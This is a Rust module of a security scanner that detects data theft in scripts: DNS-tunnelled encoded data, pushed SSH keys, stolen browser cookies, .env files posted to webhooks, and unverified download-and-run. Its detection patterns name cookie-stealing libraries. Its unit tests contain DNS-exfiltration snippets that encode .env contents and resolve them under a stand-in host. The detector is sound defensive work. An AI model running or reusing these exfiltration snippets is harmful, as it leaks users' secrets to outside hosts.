//! Reports programs that steal data: encoded data in DNS lookups, keys that are pushed with git, the cookies of all
//! sites, and settings that are posted to a hard-coded chat. Also reports programs that download another program and
//! run it.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;
use skillc_core::Span;
use skillc_core::source::lines::char_floor;

use super::sending::has_any;
use super::{MOST_COMPARED, MOST_EXAMINED, Of};
use crate::security::ascii_words;
use crate::security::context::line_around;
use crate::security::examined::{Examined, LeftOut};
use crate::security::expression::AnyOf;
use crate::security::flow::{is_weak, trimmed};
use crate::security::hosts::{Address, HostKind};
use crate::security::purpose::Purpose;
use crate::security::signals::{Match, Signal};
use crate::security::view::LayerView;

/// The maximum distance between the encoding of data and the DNS lookup that sends the data, in bytes.
const ENCODING: usize = 500;

/// The maximum distance between copying a file and pushing it, in bytes.
const COPYING: usize = 1500;

/// A command or call that encodes data as letters and digits.
static ENCODES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"\bod\s+-|\bxxd\b|\bhexdump\b|\bbase(?:64|32)\b|\.hex\(\)|\bhexlify\b|\bb(?:64|32|16)encode\b|\btostring\(\s*.(?:hex|base64)|\bencodetostring\b|\bhex\.encode",
    ))
    .expect("a pattern")
});

/// A command or expression that splits data into parts that fit into a host name.
static SPLITS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"\bfold\b|\bsplit\s+-|\bcut\s+-c|\bgrep\s+-\w*o\w*\b|\[\s*\w+\s*:\s*\w+\s*\+|\.(?:slice|substr|substring)\(|\btextwrap\b|\bchunk|\$\{\w+:\$?\w+:\d+\}|\.match\(/|\bxargs\s+-n",
    ))
    .expect("a pattern")
});

/// The definition of a function that looks up a host name. One of the groups is the name of the function. Matches text
/// in lower case.
static RESOLVER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(concat!(
        r"(?:^|[\n;&|{])[ \t]*(?:function[ \t]+)?([a-z_]\w*)[ \t]*(?:\([ \t]*\)|[ \t])\s*\{\s*(?:[^}\n]{0,120}\n\s*)?[^}\n]{0,60}?\b(?:dig|nslookup|host|drill|kdig|getent|resolvectl|ping)[ \t]",
        r"|\bdef[ \t]+([a-z_]\w*)\([^)\n]{0,80}\)[^\n:]{0,40}:\s*(?:[^\n]{0,120}\n\s*){0,2}?[^\n]{0,80}?\b(?:gethostbyname|getaddrinfo|resolver\.(?:resolve|query)|dns\.resolve)",
        r"|\b(?:function[ \t]+([a-z_$][\w$]*)[ \t]*\(|(?:const|let|var)[ \t]+([a-z_$][\w$]*)[ \t]*=)[^\n]{0,120}(?:\n[^\n]{0,120})?\b(?:dns(?:promises)?|resolver)\.(?:resolve\w*|lookup)\(",
    )))
    .expect("a pattern")
});

/// Substrings of code that looks up host names, in lower case. A layer without any of them has no match of
/// [`RESOLVER`].
static LOOKS_UP: AnyOf = AnyOf::new(&[
    "dig ",
    "nslookup",
    "host ",
    "drill ",
    "kdig",
    "getent",
    "resolvectl",
    "ping ",
    "gethostbyname",
    "getaddrinfo",
    "resolver",
    "dns",
]);

/// A host name of which a program assembles the first part and fixes the domain: `$part.x.example.net`. Matches text in
/// lower case.
static ASSEMBLED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"(?:[$%{][\w{}()$ .:%-]{1,60}|[)}\x22'`+, ])\.(?:[a-z0-9-]{1,40}\.){1,4}[a-z]{2,12}\b",
    ))
    .expect("a pattern")
});

/// Calls and commands that generate random names, or that decode data. A line with one of them does not encode data to
/// send.
const HARMLESS: [&str; 9] = [
    "urandom",
    "random",
    "uuid",
    "base64 -d",
    "base64 --decode",
    "b64decode",
    "xxd -r",
    "fromhex",
    "token_hex",
];

/// Libraries that read the cookies of browsers.
const COOKIES: [&str; 5] = [
    "browser_cookie3",
    "browsercookie",
    "rookiepy",
    "pycookiecheat",
    "chrome-cookies-secure",
];

/// Code that uses the cookies of one site only.
static ONE_SITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"\bdomain_name\b|\bdomains?\s*=|\bin\s+\w+\.domain\b|\.domain\s*(?:==|===|\.endswith|\.includes|\.match)|\b(?:chrome_cookies|getcookies)\(\s*\w",
    ))
    .expect("a pattern")
});

/// Code that reads the value of a cookie, as opposed to a cookie jar with which a program signs in.
static COOKIE_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(r#"\b\w+\.value\b|\[\s*["']value["']\s*\]"#)).expect("a pattern")
});

/// A site in quotation marks. The group is the label of the site, such as `acme` in `".acme.com"`.
static SITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"["']\.?(?:[a-z0-9-]+\.)*([a-z0-9-]{4,63})(?:\.[a-z]{2,6}){0,2}["']"#)
        .expect("a pattern")
});

/// Code that reads the cookies or the storage of a browser that the program controls.
static BROWSER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"\b(?:context|ctx|page|browser|driver|tab|client)\w*\.(?:cookies|storage_?state|get_?cookies)\(|\bdocument\.cookie\b|\bnetwork\.get(?:all)?cookies\b|\bcookies\.getall\(|\b(?:local|session)storage\b",
    ))
    .expect("a pattern")
});

/// The maximum distance between a request and its address, in bytes.
const NEAR_SEND: usize = 300;

/// The maximum number of site names that are collected from a program.
const MOST_SITES: usize = 200;

/// The beginning of a call that opens an address in a browser.
static OPENS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r#"(?:\b(?:goto|visit|open|navigate\w*)|\bdriver\.get)\(\s*[fr]?["'`]"#,
    ))
    .expect("a pattern")
});

/// A hard-coded chat: the address of a webhook, or the token of a bot.
static FIXED_CHAT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r#"/api/webhooks/\d{17,20}/[\w-]{50,80}|hooks\.slack\.com/services/t\w{6,14}/b\w{6,14}/\w{18,28}|(?:/bot|["'])\d{8,11}:[\w-]{33,37}\b"#,
    ))
    .expect("a pattern")
});

/// The name of an `.env` file, as opposed to an object such as `process.env`.
static SETTINGS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&ascii_words(r"(?:^|[^\w)\]}])\.env\b")).expect("a pattern"));

/// A call that writes a file. The matching group is the variable that holds the path of the file.
static WRITTEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r#"\b(?:createwritestream|writefile(?:sync)?)\(\s*([a-z_]\w*)\b|\burlretrieve\([^,\n]{1,200},\s*([a-z_]\w*)\b|\bopen\(\s*([a-z_]\w*)\s*,\s*["']wb|\b([a-z_]\w*)\.write_bytes\("#,
    ))
    .expect("a pattern")
});

/// A call that makes a file executable. The matching group is the variable that holds the path of the file.
static MADE_PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r"\bchmod(?:sync)?\(\s*([a-z_]\w*)\s*,\s*(?:0o?[1-7]*[1357][0-7]{0,2}\b|[^\n)]{0,40}s_ix|.[+a]*x)|\b([a-z_]\w*)\.chmod\(",
    ))
    .expect("a pattern")
});

/// A call that starts a program. The group is the variable that holds the path of the program.
static STARTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&ascii_words(
        r#"\b(?:spawn|spawnsync|execfile|execfilesync|exec|execsync|popen|run|call|check_call|check_output|system|startfile|execv)\(\s*(?:\[\s*)?(?:str\(\s*)?(?:[f]?["'`][\s\\"']{0,3}\$?\{)?([a-z_]\w*)\b"#,
    ))
    .expect("a pattern")
});

/// Substrings of code that verifies a download.
const CHECKS: [&str; 8] = [
    "sha256",
    "sha512",
    "checksum",
    "createhash",
    "hashlib",
    "integrity",
    "signature",
    "gpg",
];

impl Of<'_, '_> {
    /// SEC101, SEC103, SEC104: reports data that a program steals, and programs that it downloads and runs.
    pub(super) fn taken(&mut self) {
        let layer = self.layer;
        if layer.is_sample || !layer.layer.is_file() {
            return;
        }
        self.looked_up();
        if layer.is_script {
            self.looked_up_by_function();
            self.keys_pushed();
            self.cookies_sent();
            self.browser_emptied();
            self.settings_posted();
            self.installed_program();
        }
    }

    /// Reports encoded data in the host names of DNS lookups.
    fn looked_up(&mut self) {
        for hit in self.all(Signal::DnsLookup) {
            let before = Span::new(hit.span.start.saturating_sub(ENCODING), hit.span.end);
            let text = self.layer.lower_part(before);
            let mut lines = text.lines();
            if !lines.any(|line| ENCODES.is_match(line) && !has_any(line, &HARMLESS)) {
                continue;
            }
            let address = self.layer.leads_to(self.layer.statement(hit.span));
            let is_home = address.is_some_and(|address| address.kind <= HostKind::Known);
            if !is_home && self.is_order(&hit) {
                let is_error = SPLITS.is_match(text) && !self.is_lesson(&hit, None);
                let what = "looks up host names that contain encoded data";
                self.push("SEC104", hit.span, is_error, what);
            }
        }
    }

    /// Reports encoded data in the host names that a program passes to its own function for DNS lookups.
    fn looked_up_by_function(&mut self) {
        let layer = self.layer;
        let code = layer.lower();
        if !LOOKS_UP.is_in(code) || !ENCODES.is_match(code) || !SPLITS.is_match(code) {
            return;
        }
        for (start, end) in assembled_names(code, &layer.left_out) {
            let hit = Match {
                signal: Signal::DnsLookup,
                span: Span::new(start, end),
            };
            let address = layer.leads_to(layer.statement(hit.span));
            let is_home = address.is_some_and(|address| address.kind <= HostKind::Known);
            if !is_home && self.is_order(&hit) {
                let is_error = !self.is_lesson(&hit, None);
                let what = "looks up host names that contain encoded data";
                self.push("SEC104", hit.span, is_error, what);
                return;
            }
        }
    }

    /// Reports keys that are copied into a repository and pushed to a hard-coded address.
    fn keys_pushed(&mut self) {
        let layer = self.layer;
        for hit in self
            .all(Signal::PushAway)
            .most(MOST_COMPARED, &layer.left_out)
        {
            let command = layer.part(hit.span);
            let url = command.split_whitespace().find(|word| {
                let word = word.trim_matches(['"', '\'']);
                word.contains("://") || word.contains("git@")
            });
            let is_fixed = url.is_some_and(|url| {
                let lower = url.to_lowercase();
                !has_any(&lower, &["$", "<", "{", "your", "example"])
            });
            let Some(address) = layer.worst(hit.span).filter(|_| is_fixed) else {
                continue;
            };
            if address.kind <= HostKind::Placeholder {
                continue;
            }
            let before = Span::new(hit.span.start.saturating_sub(COPYING), hit.span.start);
            let Some(name) = self.copied_key(before) else {
                continue;
            };
            if self.is_order(&hit) {
                let is_error = !self.view.is_security && !self.serves(&hit, Purpose::Backup);
                let what = format!("pushes '{name}' to '{}'", address.host);
                self.push("SEC103", hit.span, is_error, &what);
            }
        }
    }

    /// Returns the name of a key file that a statement in `span` copies.
    fn copied_key(&self, span: Span) -> Option<String> {
        let layer = self.layer;
        let files = layer.of(Signal::SecretFile);
        let files = files.filter(|file| file.span.start < span.end);
        let mut files = files.most(MOST_COMPARED, &layer.left_out);
        files.find_map(|file| {
            let name = trimmed(layer.part(file.span));
            if is_weak(name) || name.ends_with("config") || name.ends_with("known_hosts") {
                return None;
            }
            let variable = layer.sets(file.span).map(|name| format!("${name}"));
            let mut lines = layer.part(span).lines();
            let is_copied = lines.any(|line| {
                let copies = ["cp ", "rsync ", "tar ", "copytree(", "copy(", "git add"];
                let line = line.replace(['{', '}'], "");
                let is_named = |name: &str| line.contains(name);
                has_any(&line, &copies)
                    && (is_named(name) || variable.as_deref().is_some_and(is_named))
            });
            is_copied.then(|| name.to_owned())
        })
    }

    /// Reports a script that sends the cookies of all sites, or of sites other than the destination, to an unknown
    /// host.
    fn cookies_sent(&mut self) {
        let layer = self.layer;
        let code = layer.lower();
        let Some(at) = COOKIES.iter().find_map(|name| code.find(*name)) else {
            return;
        };
        let Some(send) = layer.of(Signal::Send).next().copied() else {
            return;
        };
        if !COOKIE_VALUE.is_match(code) {
            return;
        }
        let (whose, target) = if ONE_SITE.is_match(code) {
            ("other sites", self.other_site())
        } else {
            ("all sites", self.target())
        };
        let Some(target) = target else { return };
        let read = Match {
            signal: Signal::SecretFile,
            span: Span::new(at, at + 1),
        };
        if self.is_order(&read) {
            let what = format!("reads the cookies of {whose} and sends them to {target}");
            self.push("SEC103", send.span, !self.view.is_security, &what);
        }
    }

    /// Returns the unknown host to which a program that reads the cookies of certain sites sends data. Returns `None`
    /// if the host may be one of these sites, or if the program only signs in with the cookies.
    fn other_site(&self) -> Option<String> {
        let code = self.layer.lower();
        let signs_in = ["cookies=", "cookiejar", "\"cookie\":", "'cookie':"];
        if has_any(code, &signs_in) {
            return None;
        }
        let sites = SITE.captures_iter(code).filter_map(|found| found.get(1));
        // Further sites could only excuse an address.
        let sites: Vec<&str> = sites.map(|site| site.as_str()).take(MOST_SITES).collect();
        let all = self.layer.addresses(Span::new(0, code.len())).iter();
        let foreign = all.filter(|address| self.is_foreign(address));
        let mut foreign = foreign.most(MOST_EXAMINED, &self.layer.left_out);
        let other = foreign.find(|address| {
            let span = Span::new(address.start, address.start + 1);
            let is_used = self.layer.has_near(Signal::Send, span, NEAR_SEND)
                || self.layer.sets(span).is_some();
            let is_own = sites.iter().any(|site| address.host.contains(*site));
            is_used && !is_own && self.is_strange(address)
        });
        other.map(|address| format!("'{}'", address.host))
    }

    /// Reports a script that takes cookies or storage from a browser that it controls, and sends them to a host other
    /// than the site that is open in the browser.
    fn browser_emptied(&mut self) {
        let layer = self.layer;
        let code = layer.lower();
        let found = BROWSER.find_iter(code);
        let reads: Vec<Span> = found.map(|of| Span::new(of.start(), of.end())).collect();
        if reads.is_empty() || !layer.has(Signal::Send) {
            return;
        }
        let opened = opened_in(layer);
        let sends = layer.of(Signal::Send).filter_map(|send| {
            let statement = layer.statement(send.span);
            let start = statement.start.min(send.span.start);
            let whole = Span::new(start, statement.end.max(send.span.end));
            let address = layer.leads_to(whole)?;
            let is_foreign = self.is_strange(&address) && self.is_foreign(&address);
            let is_other = is_foreign && !opened.contains(address.owner());
            is_other.then_some((*send, whole, address.host))
        });
        let sends: Vec<(Match, Span, String)> =
            sends.most(MOST_COMPARED, &layer.left_out).collect();
        if sends.is_empty() {
            return;
        }
        for read in (reads.into_iter()).most(8 * MOST_COMPARED, &layer.left_out) {
            let name = layer.sets(read);
            let taken = sends.iter().find(|(_, whole, _)| {
                let is_inside = whole.start <= read.start && read.end <= whole.end;
                is_inside || name.is_some_and(|name| layer.uses(name, *whole))
            });
            let hit = Match {
                signal: Signal::SecretFile,
                span: read,
            };
            if let Some((send, _, host)) = taken
                && self.is_order(&hit)
            {
                let what =
                    format!("takes cookies from the user's browser and sends them to '{host}'");
                self.push("SEC103", send.span, !self.view.is_security, &what);
                return;
            }
        }
    }

    /// Reports a script that reads the `.env` files in the user's home folder and posts them to a hard-coded chat.
    fn settings_posted(&mut self) {
        let layer = self.layer;
        let code = layer.lower();
        let home = ["homedir", "home()", "expanduser", "$home", "~/", "~ "];
        let walks = ["readdir", "walk", "glob", "find ", "scandir", "fd "];
        let reads = ["read", "open(", "cat ", "copy"];
        let is_collected = has_any(code, &home) && has_any(code, &walks) && has_any(code, &reads);
        if !is_collected || !SETTINGS.is_match(code) {
            return;
        }
        let Some(chat) = FIXED_CHAT.find(code) else {
            return;
        };
        let hit = Match {
            signal: Signal::Send,
            span: Span::new(chat.start(), chat.end()),
        };
        if !layer.is_mention(hit.span) {
            let what = "reads the settings in the user's folders and posts them to a fixed chat";
            self.push("SEC103", hit.span, !self.view.is_security, what);
        }
    }

    /// Reports a script that downloads a program from a foreign host and runs it without verifying it.
    fn installed_program(&mut self) {
        let layer = self.layer;
        let code = layer.lower();
        if !code.contains("chmod") || has_any(code, &CHECKS) {
            return;
        }
        let name = |found: &regex::Captures<'_>| {
            let mut names = found.iter().skip(1).flatten();
            names.next().map(|name| name.as_str().to_owned())
        };
        let written: BTreeSet<String> = WRITTEN
            .captures_iter(code)
            .filter_map(|of| name(&of))
            .collect();
        let made: BTreeSet<String> = MADE_PROGRAM
            .captures_iter(code)
            .filter_map(|of| name(&of))
            .collect();
        let started = STARTED.captures_iter(code).find(|of| {
            name(of).is_some_and(|name| written.contains(&name) && made.contains(&name))
        });
        let Some(started) = started.and_then(|of| of.get(0)) else {
            return;
        };
        let all = layer.addresses(Span::new(0, char_floor(code, started.start())));
        let mut foreign = all
            .iter()
            .filter(|address| self.is_strange(address) && self.is_foreign(address));
        let Some(host) = foreign.next().map(|address| address.host.clone()) else {
            return;
        };
        let hit = Match {
            signal: Signal::FetchRun,
            span: Span::new(started.start(), started.end()),
        };
        if !layer.is_mention(hit.span) {
            let what = format!("downloads a program from '{host}' and runs it without a check");
            self.push("SEC101", hit.span, !self.view.is_security, &what);
        }
    }
}

/// Returns the owners of the pages that a program opens in a browser.
fn opened_in<'l>(layer: &'l LayerView<'_>) -> BTreeSet<&'l str> {
    let opened = OPENS.find_iter(layer.lower()).flat_map(|found| {
        let place = Span::new(found.end(), found.end() + 1);
        layer.addresses(place)
    });
    opened.map(Address::owner).collect()
}

/// Returns the calls that pass an assembled host name to a function for DNS lookups, shortly after the program encodes
/// data and splits it into parts. `code`: in lower case.
fn assembled_names(code: &str, left_out: &LeftOut) -> Vec<(usize, usize)> {
    let functions = RESOLVER.captures_iter(code).most(MOST_COMPARED, left_out);
    let names: BTreeSet<&str> = functions
        .filter_map(|found| found.iter().skip(1).flatten().next())
        .map(|name| name.as_str())
        .collect();
    if names.is_empty() {
        return Vec::new();
    }
    let calls = |before: &str| {
        let mut words = before.split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '$')));
        words.any(|word| names.contains(word))
    };
    let found = ASSEMBLED.find_iter(code).most(MOST_EXAMINED, left_out);
    let found = found.filter(|found| {
        let line = line_around(code, found.start());
        let from = char_floor(code, found.start().saturating_sub(ENCODING));
        let near = &code[from..found.end()];
        let mut lines = near.lines();
        calls(&code[line.start.max(from)..found.start()])
            && lines.any(|line| ENCODES.is_match(line) && !has_any(line, &HARMLESS))
            && SPLITS.is_match(near)
    });
    found.map(|found| (found.start(), found.end())).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_patterns_compile() {
        for pattern in [
            &ENCODES,
            &SPLITS,
            &RESOLVER,
            &ASSEMBLED,
            &ONE_SITE,
            &COOKIE_VALUE,
            &SITE,
            &BROWSER,
            &OPENS,
            &FIXED_CHAT,
            &SETTINGS,
            &WRITTEN,
            &MADE_PROGRAM,
            &STARTED,
        ] {
            assert!(!pattern.as_str().is_empty());
        }
    }

    #[test]
    fn a_function_may_look_up_assembled_names() {
        for (code, expected) in [
            (
                "q() { dig +short \"$@\"; }\nfor c in $(cat .env | base64 -w0 | fold -w 58); do\n  q a \"$i-$c.$(hostname -s).z.probe-dns.net\"\ndone",
                true,
            ),
            (
                "ask() {\n  nslookup \"$1\" >/dev/null\n}\nxxd -p id | fold -w 60 | while read -r p; do ask \"$p.t.probe-dns.net\"; done",
                true,
            ),
            (
                "def ask(name):\n    return socket.gethostbyname(name)\nd = base64.b32encode(t)\nfor i in range(0, len(d), 50):\n    part = d[i:i + 50]\n    ask(f\"{part}.t.probe-dns.net\")",
                true,
            ),
            (
                "const ask = n => dns.resolve(n, () => {});\nconst d = Buffer.from(t).tostring('hex');\nfor (const p of d.match(/.{1,60}/g)) ask(`${p}.t.probe-dns.net`);",
                true,
            ),
            (
                "q() { dig +short \"$@\"; }\nfor h in $(cat hosts | cut -c1-20); do q a \"$h.corp.probe-dns.net\"; done",
                false,
            ),
            (
                "q() { dig +short \"$@\"; }\nt=$(head -c 8 /dev/urandom | base64 | cut -c1-8)\nq a \"$t.corp.probe-dns.net\"",
                false,
            ),
            (
                "say() { echo \"$1\"; }\nbase64 a | fold -w 58 | while read -r p; do say \"$p.part.probe-dns.net\"; done",
                false,
            ),
        ] {
            assert_eq!(
                !assembled_names(code, &LeftOut::default()).is_empty(),
                expected,
                "{code}"
            );
            assert!(!expected || LOOKS_UP.is_in(code), "{code}");
        }
    }
}
